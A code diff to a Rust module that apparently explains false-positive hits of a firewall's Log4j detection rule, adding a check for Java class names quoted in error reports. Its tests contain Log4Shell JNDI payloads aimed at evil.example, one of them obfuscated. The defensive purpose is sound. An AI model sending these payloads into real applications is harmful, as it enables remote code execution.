@@ -5,6 +5,18 @@
 
 use std::ops::Range;
 
+/// Why a Java class a pattern found (`java.lang.String`, `java.net.Socket`) in a value an error report or a
+/// telemetry export quotes of the program (`reported`: [`super::report`]) is no expression: the exception the
+/// program threw and the frames it ran (`ClassCastException: java.lang.Integer cannot be cast to
+/// java.lang.String`), which the tracker stores. A lookup there (`${jndi:...}`) still counts: Log4j resolves one
+/// in whatever message it logs.
+pub fn reported_class(matched: &[u8], reported: bool) -> Option<String> {
+    (reported && !matched.windows(2).any(|w| w == b"${")).then(|| {
+        "a Java class an error report or a telemetry export names: the program's own exception or frame, not an expression"
+            .to_owned()
+    })
+}
+
 /// Why a hit of `${ctx` in `value` (CRS 944150's context lookup) is no lookup Log4j resolves: the name goes on
 /// with something other than the colon that ends a lookup's prefix (`${ctx.status}`, `${ctxPath}`).
 pub fn unresolved(value: &[u8], hit: Range<usize>) -> Option<String> {
@@ -76,6 +88,13 @@ mod tests {
         assert!(unresolved(b"${ctx:loginId}", 0..5).is_none());
         assert!(unresolved(b"${${ctx:x:-j}ndi:ldap://evil.example/a}", 2..7).is_none());
         assert!(unresolved(b"${jndi:ldap://evil.example/a}", 0..6).is_none());
+    }
+
+    #[test]
+    fn a_class_an_error_report_names_is_the_programs_own() {
+        assert!(reported_class(b"java.lang.String", true).is_some());
+        assert!(reported_class(b"java.lang.String", false).is_none());
+        assert!(reported_class(b"${jndi:ldap", true).is_none());
     }
 
     #[test]
